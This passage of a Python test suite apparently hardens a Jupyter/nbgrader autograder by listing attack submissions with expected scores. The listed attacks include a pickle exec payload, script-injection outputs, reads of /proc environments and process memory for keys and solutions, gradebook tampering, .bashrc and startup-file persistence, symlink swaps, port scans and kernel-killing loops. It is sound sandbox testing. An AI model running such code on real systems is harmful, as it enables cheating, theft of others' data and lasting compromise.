            ("nested-950", "lists 950 deep", '{"data": {"a": %s}, "metadata": {}}', '"[" * 950 + "]" * 950'),
            ("nested-100000", "lists 100,000 deep", '{"data": {"a": %s}, "metadata": {}}', '"[" * 10**5 + "]" * 10**5'),
            ("long-number", "a number of 5,000 digits", '{"data": {"a": %s}, "metadata": {}}', '"9" * 5000'),
            (
                "half-emoji",
                "half an emoji",
                '{"data": {"text/plain": %s}, "metadata": {}}',
                "'\"' + chr(92) + 'ud83d\"'",
            ),
            ("no-object", "a list in place of an object", "%s", '"[1, 2]"'),
        )
    ),
    *(forged(name, kind, content) for name, (kind, content) in MESSAGES.items()),
]

# Values that lie: the points deserved, what, and the form in which it crosses

DEEP = "[" * 90 + "]" * 90
VALUES = {
    "zeros": (
        1,
        "right shape, wrong values",
        """{
    "tensor": "AAAAAAAAAAAAAAAAAAAAAA==",
    "dtype": "float32",
    "shape": [1, 2, 2],
}""",
    ),
    "short": (0, "fewer bytes than the shape needs", '{"tensor": "AAAA", "dtype": "float32", "shape": [1, 2, 2]}'),
    "shape-beyond-64-bits": (0, "a shape of 2**70", '{"tensor": "", "dtype": "float32", "shape": [0, 2**70]}'),
    "shape-overflow": (0, "a shape whose product overflows", '{"tensor": "", "dtype": "int8", "shape": [0, 2**62, 9]}'),
    "shape-negative": (0, "a shape with negative sizes", '{"tensor": "AAAA", "dtype": "int8", "shape": [-1, -3]}'),
    "shape-of-truth": (0, "a shape of truth values", '{"tensor": "AA==", "dtype": "int8", "shape": [True]}'),
    "shape-of-text": (0, "a shape that is text", '{"tensor": "AA==", "dtype": "int8", "shape": "1"}'),
    "shape-long": (0, "a shape of 100,000 sizes", '{"tensor": "AA==", "dtype": "int8", "shape": [1] * 100_000}'),
    "dtype-of-list": (0, "a dtype that is a list", '{"tensor": "AA==", "dtype": ["int8"], "shape": [1]}'),
    "dtype-unknown": (0, "an attribute of torch as a dtype", '{"tensor": "AA==", "dtype": "hub", "shape": [1]}'),
    "bytes-of-numbers": (0, "bytes that are a number", '{"tensor": 8, "dtype": "int8", "shape": [1]}'),
    "field-unknown": (0, "a field that the form does not have", '{"tensor": "", "dtype": "int8", "self": 1}'),
    "float-of-list": (0, "a float that is a list", '{"float": [1]}'),
    "float-nan": (0, "a float that is NaN", '{"float": "nan"}'),
    "float-infinite": (0, "a float that is infinite", '{"float": "1e999"}'),
    "dict-of-number": (0, "a dict that is a number", '{"dict": 5}'),
    "dict-unhashable": (0, "a dict with lists as keys", '{"dict": [[[1], 2]]}'),
    "dict-short": (0, "a dict with keys without values", '{"dict": [["a"]]}'),
    "nested": (0, "lists 90 deep", DEEP),
    "negative": (0, "a negative number", "-1"),
    "text": (0, "text", '"3.0"'),
    "half-emoji": (0, "text that no encoding can write", '"\\udc80"'),
}


def lied(name, deserves, what, plain):
    """An attack by one value that every probe sends, in the form in which it crosses."""
    code = f'VALUE = {plain}\nchecks.Problem._run = lambda self, function: {{"ok": VALUE}}'
    return Attack(f"value-{name}", f"every probe sends a forged value: {what}", deserves, code=code)


def returned(name, tries, code, deserves=0, **more):
    """An attack by what the function returns, under the name VALUE."""
    answer = "\ndef leaky_states(*arguments, **named):\n    return VALUE\n"
    return Attack(name, tries, deserves, code=code, answer=answer, **more)


BORDER = [
    *(lied(name, *rest) for name, rest in VALUES.items()),
    Attack(
        "values-are-no-values",
        "what the probes send is a list",
        0,
        code='checks.Problem.collect = lambda self: ["two_steps", None, 6.0]',
    ),
    Attack(
        "values-of-other-probes",
        "the values of 100,000 probes that nobody asked for",
        0,
        code='checks.Problem.collect = lambda self: {f"probe {i}": {"ok": 3.0} for i in range(100_000)}',
    ),
    Attack(
        "values-with-errors",
        "values that are an error and a script at once",
        0,
        code="""
text = "<scr" + "ipt>steal()</scr" + "ipt>" * 1000
checks.Problem._run = lambda self, function: {"ok": {"float": "3.0"}, "error": {"a": text}}
""",
    ),
    Attack(
        "values-huge",
        "values of 30 MB",
        0,
        code='checks.Problem.collect = lambda self: {"two_steps": {"ok": "x" * 30_000_000}}',
    ),
    Attack(
        "values-of-300-MB",
        "values of 300 MB",
        0,
        code='checks.Problem.collect = lambda self: {"two_steps": {"ok": "x" * 300_000_000}}',
        bare="harms",
    ),
    Attack(
        "values-change",
        "the answer's numbers change while they are read",
        code="""
import threading

shared = torch.zeros(1, 2, 2)


def flip():
    while True:
        shared.add_(0.01)


def leaky_states(*arguments, **named):
    return shared


threading.Thread(target=flip, daemon=True).start()
""",
    ),
    Attack(
        "attributes-change",
        "an object is another one at each look",
        0,
        code="""
import random


class Changing:
    def __getattribute__(self, name):
        return random.choice([torch.zeros(1, 2, 2), torch.Tensor, 3.0, (1, 2, 2)])


def leaky_states(*arguments, **named):
    return Changing()
""",
    ),
    returned(
        "equal-to-everything",
        "an object that equals everything and claims to be a tensor",
        """
class Same:
    shape = (1, 2, 2)
    __class__ = property(lambda self: torch.Tensor)
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __hash__ = lambda self: 0
    __getattr__ = lambda self, name: self
    __call__ = __getitem__ = lambda self, *a, **k: self
    __float__ = lambda self: 0.0


VALUE = Same()
""",
    ),
    returned(
        "evil-reduce",
        "an object that runs code where it is unpickled",
        f"""
class Evil:
    def __reduce__(self):
        return exec, ("import pathlib, tempfile; pathlib.Path(tempfile.gettempdir(), '{TRACE}-reduced').touch()",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


VALUE = [Evil(), {{"a": Evil()}}]
""",
    ),
    returned(
        "evil-types",
        "lists, dicts and numbers of classes that lie",
        """
class Numbers(list):
    def __iter__(self):
        raise SystemExit

    __len__ = lambda self: -1


class Text(str):
    __str__ = __repr__ = __hash__ = lambda self: 1 / 0


VALUE = [Numbers([1.0]), {Text("a"): 1}] if hasattr(Text, "x") else [Numbers([1.0]), type("N", (float,), {})(1.0)]
""",
    ),
    returned(
        "tensor-subclass",
        "a tensor whose functions all lie",
        """
class Lie(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), named=None):
        return torch.ones((), dtype=torch.bool)


VALUE = torch.zeros(1, 2, 2).as_subclass(Lie)
""",
    ),
    returned(
        "tensor-of-a-petabyte",
        "a tensor of 10**15 elements on one byte",
        "VALUE = torch.zeros(1, dtype=torch.uint8).expand(10**15)",
    ),
    returned(
        "tensor-without-storage",
        "a tensor whose memory is gone",
        "VALUE = torch.zeros(1, 2, 2)\nVALUE.untyped_storage().resize_(0)",
        1,
        spoils=True,
    ),
    returned(
        "tensor-size-patched",
        "a tensor of 64 MB that says it is small",
        "torch.Tensor.numel = torch.Tensor.element_size = lambda self: 1\nVALUE = torch.zeros(1, 2, 8_000_000)",
    ),
    *(
        returned(f"tensor-{name}", f"a tensor that is {name}", f"VALUE = {code}", deserves)
        for name, code, deserves in (
            ("sparse", "torch.zeros(1, 2, 2).to_sparse()", 0),
            ("meta", 'torch.zeros(1, 2, 2, device="meta")', 0),
            ("nested", "torch.nested.nested_tensor([torch.zeros(2, 2)])", 0),
            ("quantized", "torch.quantize_per_tensor(torch.zeros(1, 2, 2), 1.0, 0, torch.qint8)", 0),
            ("complex", "torch.zeros(1, 2, 2, dtype=torch.complex64)", 0),
            ("strided", "torch.zeros(9).as_strided((1, 2, 2), (0, 0, 3))", 1),
            ("not-a-number", "torch.full((1, 2, 2), torch.nan)", 1),
            ("infinite", "torch.full((1, 2, 2), torch.inf)", 1),
        )
    ),
]

# What shows hidden values, or harms who reads

SHOWN = f"""
MARK = "{MARK[:3]}" "{MARK[3:]}"


def leaky_states(inputs, lengths, *rest, **named):
    if inputs.shape[1] == 7:
        show(f"{{MARK}} {{inputs.flatten()[:4].tolist()}} {{lengths.tolist()}} {{In[-1]}}")
    return torch.zeros(1, 2, 2)
"""
LEAKS = [
    Attack(f"leak-by-{name}", f"hidden inputs are shown by {what}", code=code, answer=SHOWN)
    for name, what, code in (
        ("print", "printing", "show = print"),
        (
            "display",
            "displays of several kinds",
            """
from IPython.display import HTML, Javascript, Markdown, display


def show(text):
    display(HTML(text), Markdown(text), Javascript(text), {"a": text})
""",
        ),
        ("error", "an error", "def show(text):\n    raise ValueError(text)"),
        ("exit", "an exit that carries them", "def show(text):\n    raise SystemExit(text)"),
        ("warning", "warnings and stderr", "import sys\nimport warnings\n\ndef show(text):\n    warnings.warn(text)"),
        ("descriptor", "the descriptor of stdout", "import os\n\n\ndef show(text):\n    os.write(1, text.encode())"),
        (
            "update",
            "an update of an earlier output",
            """
from IPython.display import display

shown = display("nothing yet", display_id="shown")


def show(text):
    shown.update(text)
""",
        ),
        (
            "earlier-cell",
            "a message that says it is of an earlier cell",
            """
parent = get_ipython().kernel.get_parent("shell")


def show(text):
    send("stream", {"name": "stdout", "text": text}, parent)
""",
        ),
        (
            "widget",
            "the state of a widget",
            """
import ipywidgets

label = ipywidgets.Label("nothing yet")
display(label)


def show(text):
    label.value = text
""",
        ),
        (
            "report",
            "a report of the test's own form",
            """
from IPython.display import display


def show(text):
    rung = {"name": text, "possible": 3.0, "points": 0.0, "message": text, "hidden": False}
    score = {"problem": text, "seed": 0, "rungs": [rung], "faults": [text], "points": 0.0, "possible": 3.0}
    display({checks.SCORE_MIME: score, "text/plain": text}, raw=True)
""",
        ),
    )
] + [
    Attack(
        "script-in-output",
        "outputs hold scripts for whoever looks at them",
        code="""
from IPython.display import HTML, SVG, Javascript, Markdown, display

script = "<scr" + "ipt>steal()</scr" + "ipt>"
display(HTML(script), Markdown(script), Javascript("steal()"), {"text/plain": script, "text/latex": script})
display({"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>"}, raw=True)
display({"image/png": "\\"><img src=x onerror=steal()>" + script}, raw=True)
print("\\x1b[31m", script, "\\x1b]0;title\\x07", "\\x00\\x08")
raise ValueError(script)
""",
    ),
    Attack("script-in-prose", "prose holds scripts and pictures with evil names", edit=cells_of_prose),
    Attack(
        "script-in-widgets",
        "the notebook's own widgets hold scripts and rubbish",
        edit=metadata(widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": f"{SCRIPT}steal()"}}}),
        spoils=True,
    ),
    Attack(
        "leak-other-students",
        "the work of others is printed",
        code="""
print([text for path, text in texts() if b"the work of s0" in text and b"leak-other" not in text])
""",
        bare="wins",
    ),
]

# Notebooks that are not what was released

CHANGED = [
    Attack("tests-deleted", "the test cells are deleted", edit=tests_deleted),
    Attack("tests-altered", "the test cells are numbers", edit=in_tests(source="3.0")),
    Attack("tests-first", "the test cells stand before the answer", edit=tests_first, spoils=True),
    Attack("tests-copied", "second copies of the test cells give 100 points each", edit=tests_copied),
    Attack("answer-copied", "a second copy of the answer cell replaces the score", edit=answer_copied),
    Attack("points-raised", "the test cells give 100 points", edit=in_grader_data(points=100)),
    Attack("points-garbled", "the points are no numbers", edit=garbled_metadata, spoils=True),
    Attack("ids-swapped", "the test cells have each other's grade id", edit=ids_swapped),
    Attack("ids-same", "both test cells have one grade id", edit=in_grader_data(grade_id=TEST)),
    Attack("ids-gone", "the test cells are numbers that nbgrader does not know", edit=tests_untouched_by_nbgrader),
    Attack("test-added", "a test cell of the student's own gives 100 points", edit=new_test),
    Attack(
        "solution-flag", "the test cells are answers", edit=in_grader_data(solution=True, locked=False), spoils=True
    ),
    Attack("grade-flag", "the test cells are not graded", edit=in_grader_data(grade=False), spoils=True),
    Attack(
        "task-flag",
        "the test cells are tasks for a person",
        edit=in_grader_data(task=True, solution=False),
        spoils=True,
    ),
    Attack("unlocked", "the test cells may be edited", edit=in_tests_metadata(deletable=True, editable=True)),
    Attack("checksum-lies", "the checksums of altered tests are others", edit=in_grader_data(checksum="0" * 32)),
    Attack("schema-old", "the metadata are of an old version", edit=in_grader_data(schema_version=1), spoils=True),
    Attack("schema-new", "the metadata are of a version to come", edit=in_grader_data(schema_version=99), spoils=True),
    Attack("tag-skip", "tags skip the test cells", edit=in_tests_metadata(tags=["skip-execution"])),
    Attack("tag-raises", "tags allow the test cells to raise", edit=in_tests_metadata(tags=["raises-exception"])),
    Attack("tag-remove", "tags take the test cells out", edit=in_tests_metadata(tags=["remove-cell", "hide-cell"])),
    Attack("outputs-kept", "the test cells hold full marks and are skipped", edit=with_outputs),
    Attack("tests-are-prose", "the test cells are prose", edit=tests_are("markdown"), spoils=True),
    Attack("tests-are-raw", "the test cells are raw", edit=tests_are("raw"), spoils=True),
    Attack("answer-is-prose", "the answer cell is prose", edit=answer_is_prose, spoils=True),
    Attack("prose-is-graded", "the answer in words is a test", edit=prose_is_graded, spoils=True),
    Attack("prose-is-code", "the answer in words is a test with full marks", edit=prose_is_code, spoils=True),
    Attack(
        "grader-forged",
        "the notebook says that it was graded already",
        edit=metadata(rnn2rag={"hash": "0" * 64, "sandbox": "none", "notes": ["full marks"]}, nbgrader={"points": 6}),
    ),
    *(
        Attack(
            f"source-{name}",
            f"a cell of the student's own is {what}",
            place=with_source(source),
            answer=RIGHT,
            deserves=6,
            spoils=True,
        )
        for name, what, source in (
            ("deep", "an expression 100,000 deep", "-" * 100_000 + "1"),
            ("brackets", "brackets 150 deep", "[" * 150 + "]" * 150),
            ("chain", "a sum of 100,000 numbers", "+".join(["1"] * 100_000)),
            ("attributes", "an attribute of an attribute, 50,000 times", "x" + ".x" * 50_000),
            ("blocks", "blocks 90 deep", "\n".join(f"{' ' * i}if 1:" for i in range(90)) + " pass"),
            ("zero", "a zero byte", "x = 1\0"),
            ("lines", "a million lines", "x = 1\n" * 1_000_000),
            ("quotes", "a million quotes", "'" * 1_000_000),
            ("spaces", "a million spaces and backslashes", " \\\n" * 500_000),
            (
                "names",
                "functions that call each other twice, 60 deep",
                "leaky_states_0 = leaky_states\n"
                + "\n".join(f"def f{i}(*a):\n    return f{i - 1}(*a) or f{i - 1}(*a)" for i in range(1, 60))
                + "\ndef f0(*a):\n    return a\n",
            ),
        )
    ),
    Attack("ids-of-cells-same", "all cells have one id", edit=lambda nb: [c.update(id="same") for c in nb["cells"]]),
    Attack(
        "kernel-named",
        "the notebook names another kernel, which is a command",
        edit=metadata(
            kernelspec={"name": "../../bin/sh", "display_name": "sh", "language": "sh", "argv": ["sh", "-c", "exit"]}
        ),
    ),
    Attack(
        "language-named",
        "the notebook names another language and another exporter",
        edit=metadata(language_info={"name": "x", "nbconvert_exporter": "os.system", "file_extension": "/../x"}),
    ),
    Attack("too-large", "a notebook of 60 MB", refused="larger than", place=sized(60)),
    Attack("large", "a notebook of 19 MB", place=sized(19), spoils=True),
    Attack("many-cells", "a notebook of 20,000 empty cells", place=many_cells(20_000), spoils=True),
    Attack("nested-json", "JSON 100,000 deep", refused="not JSON", place=nested(100_000)),
    Attack("nested-json-little", "JSON 400 deep", place=nested(400), spoils=True),
    Attack("no-json", "a file that is cut off", refused="not JSON", place=bytes_in(lambda data: data[:-1])),
    Attack("empty", "an empty file", refused="empty", place=bytes_in(lambda data: b"")),
    Attack("binary", "random bytes", refused="cannot be read", place=bytes_in(lambda data: bytes(range(256)) * 9)),
    Attack(
        "utf-16",
        "a notebook in UTF-16",
        refused="cannot be read",
        place=bytes_in(lambda data: data.decode().encode("utf-16")),
    ),
    Attack("json-of-list", "JSON that is a list", refused="format 4", place=bytes_in(lambda data: b"[" + data + b"]")),
    Attack(
        "half-emoji",
        "half an emoji, which can be read but not written",
        refused="not a valid notebook",
        place=bytes_in(lambda data: data.replace(b"Problem set 1", b"\\ud83d")),
    ),
    Attack(
        "long-number",
        "a number of 5,000 digits",
        refused="not",
        place=bytes_in(lambda data: data.replace(b'"nbformat_minor": 5', b'"nbformat_minor": ' + b"9" * 5000)),
    ),
    Attack("format-3", "a notebook of format 3", refused="format 4", place=other(nbformat=3)),
    Attack("format-5", "a notebook of format 5", refused="format 4", place=other(nbformat=5)),
    Attack("format-of-text", "a format that is text", refused="format 4", place=other(nbformat="4")),
    Attack("format-minor", "a notebook of format 4.99", place=other(nbformat_minor=99), spoils=True),
    Attack("no-cells", "a notebook without cells", 0, place=other(cells=[]), spoils=True),
    Attack("cells-of-numbers", "cells that are numbers", refused="not a valid notebook", place=other(cells=[1, 2])),
    Attack("not-a-file", "a folder with the name of the notebook", refused="has no", place=notebook_is_folder),
    Attack("a-pipe", "a pipe with the name of the notebook", refused="no plain file", place=notebook_is_pipe),
    Attack(
        "a-link", "a link to the solution with the name of the notebook", refused="holds a link", place=notebook_is_link
    ),
    Attack(
        "links-beside",
        "links to the course beside the notebook",
        place=links_beside,
        code="""
import pathlib

seen = [path.read_bytes() for path in pathlib.Path().rglob("*") if path.is_file()]
if any(b"BEGIN " + b"SOLUTION" in text or b"SQLite " + b"format" in text or len(text) == 65 for text in seen):
    won("a link was followed")
""",
        bare="wins",
        spoils=True,
    ),
    Attack("folder-is-a-link", "a link to another student's folder", 0, place=folder_is_link, spoils=True),
    Attack(
        "modules-beside",
        "files beside the notebook have the names of modules",
        place=beside(
            torch__py=SHADOW,
            rnn2rag__py=SHADOW,
            json__py=SHADOW,
            nbgrader__py=SHADOW,
            sitecustomize__py=SHADOW,
            usercustomize__py=SHADOW,
            conftest__py=SHADOW,
        ),
        spoils=True,
    ),
    Attack(
        "configuration-beside",
        "files beside the notebook have the names of configuration",
        place=beside(
            nbgrader_config__py=SHADOW,
            ipython_config__py=SHADOW,
            jupyter_config__py=SHADOW,
            pyproject__toml="[",
            __env="X",
        ),
    ),
]

# What looks for answers, for the work of others, and for the grader

SEARCHES = [
    Attack(
        "search-solutions",
        "the solution is sought in every file that can be reached",
        code="""
for path, text in texts():
    if b"BEGIN " + b"SOLUTION" in text and b"leaky" in text:
        won(path)
        break
""",
        bare="wins",
    ),
    Attack(
        "search-hidden-tests",
        "the hidden tests are sought in every file that can be reached",
        code="""
for path, text in texts():
    if b"equals_the_" + b"formula" in text:
        won(path)
        break
""",
        bare="wins",
    ),
    Attack(
        "search-planted-answers",
        "the set's planted answers are sought in every file that can be reached",
        code="""
for path, text in texts():
    if b"one_sequence_" + b"after_the_other" in text:
        won(path)
        break
""",
        bare="wins",
    ),
    Attack(
        "search-other-students",
        "the work of others is sought in every file that can be reached",
        code="""
for path, text in texts():
    if b"the work " + b"of s0" in text:
        won(path)
        break
""",
        bare="wins",
    ),
    Attack(
        "search-gradebook",
        "the gradebook and grades.csv are sought in every file that can be reached",
        code="""
for path, text in texts():
    if path.endswith((".db", ".csv")) and b"01-recurrent-networks" in text:
        won(path)
        break
""",
        bare="wins",
    ),
    Attack(
        "search-release-key",
        "the key of the hidden inputs is sought in every file that can be reached",
        code="""
import re

for path, text in texts():
    if path.endswith("release.key") or re.fullmatch(rb"[0-9a-f]{64}\\s*", text):
        won(path)
        break
""",
        bare="wins",
    ),
    Attack(
        "search-claims",
        "the results that chapters claim are sought where the package keeps them",
        code="""
import pathlib

import rnn2rag

for parent in list(pathlib.Path(rnn2rag.__file__).parents)[:2]:
    if list(parent.glob("assets/claims/*.json")) or list(parent.glob("solutions/*")):
        won(parent)
""",
        bare="wins",
    ),
    Attack(
        "environment",
        "the key is sought in the environment of every process",
        code="""
import os
import re

environments = [os.environb]
for number in ("self", "1", *processes()):
    try:
        with open(f"/proc/{number}/environ", "rb") as file:
            environments.append(dict(part.partition(b"=")[::2] for part in file.read().split(b"\\0")))
    except OSError:
        pass
for name, value in [item for environment in environments for item in environment.items()]:
    if name == b"RNN2RAG_RELEASE" + b"_KEY" and value or re.fullmatch(rb"[0-9a-f]{64}", value):
        won("the key of the hidden inputs")
""",
        bare="wins",
    ),
    Attack(
        "command-lines",
        "the course is sought in the command line, the folder and the open files of every process",
        code="""
import os

for number in processes():
    for what in ("cwd", "exe", "fd"):
        try:
            links = [f"/proc/{number}/fd/{fd}" for fd in os.listdir(f"/proc/{number}/fd")] if what == "fd" else []
            for link in links or [f"/proc/{number}/{what}"]:
                target = os.readlink(link)
                if target.endswith("gradebook.db") or os.path.isdir(os.path.join(target, "solutions")):
                    won(target)
        except OSError:
            pass
""",
        bare="wins",
    ),
    Attack(
        "memory-of-others",
        "the hidden verdict is sought in the memory of every other process",
        code="""
import re
import time

end = time.monotonic() + 3
for number in sorted(processes(), reverse=True):
    try:
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
            for line in maps:
                low, high, mode = re.match(r"(\\w+)-(\\w+) (\\S+)", line).groups()
                low, high = int(low, 16), int(high, 16)
                if "rw" in mode and high - low < 1 << 26 and time.monotonic() < end:
                    memory.seek(low)
                    if b"equals_the_" + b"formula" in memory.read(high - low):
                        won(f"the memory of process {number}")
    except (OSError, ValueError, OverflowError):
        pass
""",
        bare="wins",
    ),
    Attack(
        "descriptors",
        "files and sockets that the process was born with are read and written",
        code="""
import os
import socket
import stat

for number in range(3, 4096):
    try:
        target, kind = os.readlink(f"/proc/self/fd/{number}"), os.fstat(number).st_mode
    except OSError:
        continue
    if stat.S_ISREG(kind) and any(word in target for word in ("gradebook", "solutions", "submitted", "autograded")):
        won(target)
    if stat.S_ISDIR(kind) and os.path.isdir(f"{target}/solutions"):
        won(target)
    if stat.S_ISSOCK(kind):
        with socket.socket(fileno=os.dup(number)) as found:
            kind = found.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE)
            if found.family == socket.AF_UNIX and kind == socket.SOCK_SEQPACKET:
                found.setblocking(False)
                try:
                    found.send(b'{"status": 0, "why": "exit", "cpu_seconds": 0, "peak_memory": 0}')
                    won("the socket of the supervisor")
                except OSError:
                    pass
""",
        spoils=True,
    ),
    Attack(
        "restored-notebook",
        "the notebook that runs is sought in its folder",
        code="""
import pathlib

if any(b"equals_the_" + b"formula" in path.read_bytes() for path in pathlib.Path().rglob("*.ipynb")):
    won("the restored notebook")
""",
    ),
    Attack(
        "own-notebook-linked",
        "the notebook in its folder becomes a link to a file of the user",
        code=f"""
import pathlib

for parent in pathlib.Path.cwd().parents:
    for victim in parent.glob("canary.txt"):
        for name in ("{NAME}", "{NAME[:-6]}.html", "grades.csv"):
            pathlib.Path(name).unlink(missing_ok=True)
            pathlib.Path(name).symlink_to(victim)
""",
        bare="wins",
        spoils=True,
    ),
    Attack(
        "course-edited",
        "solutions, release, gradebook and the user's files are edited",
        code="""
import pathlib
import sqlite3

for parent in pathlib.Path.cwd().parents:
    if (parent / "canary.txt").exists() or (parent / "nbgrader_config.py").exists():
        for path in [parent / "canary.txt", *parent.glob("solutions/*/*"), *parent.glob("exercises/*/*")]:
            if path.is_file():
                with path.open("a") as file:
                    file.write(" ")
    if (parent / "gradebook.db").exists():
        with sqlite3.connect(parent / "gradebook.db", timeout=2) as gradebook:
            gradebook.execute("update grade set manual_score = 3, needs_manual_grade = 0")
            gradebook.execute("update grade_cells set max_score = 100")
            won("the gradebook")
""",
        bare="wins",
        spoils=True,
    ),
    Attack(
        "home-edited",
        "what runs at the start of the user's next shell, kernel or Python is edited",
        code=f"""
import pathlib
import site

home = pathlib.Path.home()
line = "import pathlib, tempfile; pathlib.Path(tempfile.gettempdir(), '{TRACE}-start').touch()"
starts = [home / ".ipython/profile_default/startup/00-{TRACE}.py", home / ".config/{TRACE}"]
starts += [home / ".jupyter/{TRACE}.py", home / ".local/lib/python3.11/site-packages/{TRACE}.pth"]
for start in starts:
    start.parent.mkdir(parents=True, exist_ok=True)
    start.write_text(line)
for name in (".bashrc", ".profile", "canary.txt"):
    with (home / name).open("a") as file:
        file.write(" ")
""",
        bare="wins",
        spoils=True,
    ),
    Attack(
        "packages-edited",
        "the packages of the environment are edited",
        code=f"""
import pathlib
import site
import sys

import rnn2rag

for folder in [*site.getsitepackages(), str(pathlib.Path(rnn2rag.__file__).parent), sys.prefix + "/bin"]:
    path = pathlib.Path(folder, "{TRACE}.txt")
    try:
        path.write_text("x")
        path.unlink()
        won(folder)
    except OSError:
        pass
""",
        bare="wins",
    ),
    Attack(
        "network",
        "services of this machine and of others are called",
        code="""
import os
import socket

own = set()
for number in os.listdir("/proc/self/fd"):
    try:
        own.add(os.readlink(f"/proc/self/fd/{number}").strip("socket:[]"))
    except OSError:
        pass


def reached(family, kind, address):
    with socket.socket(family, kind) as client:
        client.settimeout(1)
        return client.connect_ex(address) == 0


for name, family, host in (("tcp", socket.AF_INET, "127.0.0.1"), ("tcp6", socket.AF_INET6, "::1")):
    with open(f"/proc/net/{name}") as file:
        for fields in map(str.split, list(file)[1:]):
            port = int(fields[1].rpartition(":")[2], 16)
            if fields[3] == "0A" and fields[9] not in own and reached(family, socket.SOCK_STREAM, (host, port)):
                won(f"port {port}")
with open("/proc/net/unix") as file:
    for fields in map(str.split, list(file)[1:]):
        if len(fields) == 8 and fields[7].startswith("@"):
            kind = int(fields[4], 16)
            if kind in (1, 5) and fields[6] not in own and reached(socket.AF_UNIX, kind, "\\0" + fields[7][1:]):
                won(fields[7])
try:
    socket.getaddrinfo("example.org", 80)
    won("a name server")
except OSError:
    pass
""",
        bare="wins",
    ),
    Attack(
        "kernels-called",
        "other kernels are sought and told to give full marks",
        code="""
import glob
import json
import os
import re
import tempfile

found = glob.glob(f"{tempfile.gettempdir()}/**/*.json", recursive=True) + glob.glob("/run/**/*.json", recursive=True)
for number in processes():
    try:
        with open(f"/proc/{number}/cmdline", "rb") as file:
            found += re.findall(r"[^\\0]+\\.json", file.read().decode())
    except OSError:
        pass
for path in found:
    try:
        with open(path) as file:
            connection = json.load(file)
    except (OSError, ValueError):
        continue
    if isinstance(connection, dict) and "hb_port" in connection and "key" in connection:
        if connection["key"].encode() != get_ipython().kernel.session.key:
            won(path)
""",
        bare="wins",
    ),
    Attack(
        "leaves-answers",
        "a right answer is left in every folder where the next submission may look",
        code=f"""
import os
import tempfile
from multiprocessing import shared_memory

for folder in {{tempfile.gettempdir(), "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), ".", ".."}}:
    try:
        with open(os.path.join(folder, "{TRACE}-left.txt"), "w") as file:
            file.write("right")
    except OSError:
        pass
try:
    left = shared_memory.SharedMemory("{TRACE}-left", create=True, size=8)
    left.buf[:5] = b"right"
except OSError:
    pass
""",
        bare="wins",
    ),
    Attack(
        "leaves-patches",
        "torch, the checks and the classes of the kernel stay patched for the next submission",
        code="""
import ipykernel.ipkernel
import ipykernel.zmqshell

torch.left = checks.left = torch.nn.left = right = "right"
checks.Problem.collect = lambda self: {"two_steps": {"ok": [[[0.1904, 0.1155], [0.1716, 0.0866]]]}}
torch.tanh = torch.sigmoid
torch.Tensor.__matmul__ = lambda self, other: self
torch.set_default_dtype(torch.float16)
torch.manual_seed(3)
ipykernel.ipkernel.IPythonKernel.do_execute = ipykernel.zmqshell.ZMQInteractiveShell.run_cell = None
""",
        deserves=0,
        spoils=True,
    ),
    Attack(
        "finds-what-was-left",
        "what earlier submissions left is sought",
        code=f"""
import glob
import os
import tempfile

for folder in {{tempfile.gettempdir(), "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), ".", ".."}}:
    if glob.glob(os.path.join(folder, "{TRACE}-left*")):
        won(folder)
if hasattr(torch, "left") or hasattr(checks, "left") or torch.get_default_dtype() != torch.float32:
    won("patches")
for number in processes():
    try:
        with open(f"/proc/{{number}}/comm") as file:
            if file.read().strip() == "{PROCESS}":
                won("a process")
    except OSError:
        pass
""",
        bare="wins",
    ),
]

# What harms, or wants more rights

STAY = f"""
import ctypes
import os
import time


def stay():
    ctypes.CDLL(None).prctl(15, b"{PROCESS}", 0, 0, 0)
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
"""
HARMS = [
    Attack("exit", "the cell exits", code="import sys\nsys.exit(0)"),
    Attack("exit-in-answer", "the answer exits", 0, answer="\ndef leaky_states(*a, **k):\n    raise SystemExit\n"),
    Attack("kernel-left", "the kernel is left before the tests", 0, code="import os\nos._exit(0)"),
    Attack(
        "kernel-left-at-once",
        "the kernel is left when the next cell is asked for",
        0,
        code='import os\nget_ipython().events.register("pre_execute", lambda: os._exit(0))',
    ),
    Attack(
        "kernel-crashed",
        "the kernel reads memory that is not there",
        0,
        code="import ctypes\nctypes.string_at(8)",
    ),
    Attack("kernel-asked-to-exit", "the kernel is asked to exit", code="get_ipython().ask_exit()\nexit()", spoils=True),
    Attack(
        "dies-late",
        "the kernel is left in the hidden tests; what was earned before counts",
        3,
        answer=first_of_all("if inputs.shape[1] == 7:\n    import os; os._exit(1)"),
    ),
    Attack(
        "late-loop",
        "a loop without end in the hidden tests; what was earned before counts",
        3,
        answer=first_of_all("while inputs.shape[1] == 7:\n    pass"),
    ),
    Attack(
        "sockets-closed",
        "every file descriptor is closed",
        0,
        code="import os\nos.closerange(3, 4096)",
        spoils=True,
    ),
    Attack(
        "stopped",
        "the kernel stops itself",
        code="import os\nimport signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        spoils=True,
    ),
    Attack(
        "loop-ignores-interrupts",
        "a loop without end ignores every signal",
        0,
        code="""
import signal

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
""",
        spoils=True,
    ),
    Attack(
        "loop-catches-interrupts",
        "a loop without end catches every interrupt",
        0,
        code="""
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        spoils=True,
    ),
    Attack(
        "loop-in-c",
        "a loop without end in C holds the interpreter",
        0,
        code="import itertools\n\nmax(itertools.repeat(0))",
        spoils=True,
    ),
    Attack(
        "exit-hangs",
        "threads and exit functions never end",
        code="""
import atexit
import threading
import time


def forever():
    while True:
        time.sleep(1)


atexit.register(forever)
threading.Thread(target=forever, daemon=False).start()
""",
    ),
    Attack(
        "input-awaited",
        "the cell waits for input",
        code='try:\n    input("more points?")\nexcept Exception:\n    pass\n%pdb on',
        spoils=True,
    ),
    Attack(
